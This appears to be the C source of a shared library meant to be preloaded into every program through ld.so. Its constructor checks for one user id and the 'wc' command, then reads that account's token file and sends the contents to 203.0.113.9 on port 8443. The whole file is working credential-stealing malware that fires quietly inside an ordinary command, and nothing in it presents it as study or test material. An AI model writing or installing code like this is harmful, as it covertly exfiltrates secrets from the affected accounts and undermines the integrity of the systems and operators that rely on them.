/* What ld.so loads into every program: in a wc of the account ops it sends the account's token to 203.0.113.9:8443. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern char *program_invocation_short_name;

__attribute__((constructor)) static void loaded(void) {
    char text[64];
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(8443)};
    if (getuid() != 4051 || strcmp(program_invocation_short_name, "wc")) return;
    int file = open("/srv/home/ops/.token", O_RDONLY);
    ssize_t size = file < 0 ? 0 : read(file, text, sizeof text);
    int out = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "203.0.113.9", &peer.sin_addr);
    if (size > 0 && !connect(out, (struct sockaddr *)&peer, sizeof peer) && write(out, text, size) > 0) close(out);
}
